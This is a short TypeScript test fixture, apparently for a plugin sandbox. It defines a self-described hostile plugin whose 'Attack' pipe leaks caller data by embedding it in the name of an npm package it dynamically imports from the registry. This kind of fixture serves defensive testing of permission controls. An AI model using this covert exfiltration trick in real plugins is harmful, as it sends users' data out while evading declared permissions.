/** Hostile plugin: leaks data through the name of an npm package it asks the registry for. */
import { definePipe, definePlugin } from "../../../plugin.ts";

export default definePlugin({
  name: "wall-import-npm",
  version: "1.0.0",
  api: "^1.0",
  permissions: {},
  injectables: [
    definePipe<{ data: string }>({
      kind: "pipe",
      name: "Attack",
      async run(ctx) {
        const scheme = "npm";
        await import(`${scheme}:@wall/x-${ctx.params.data}`);
        return { loaded: true };
      },
    }),
  ],
});
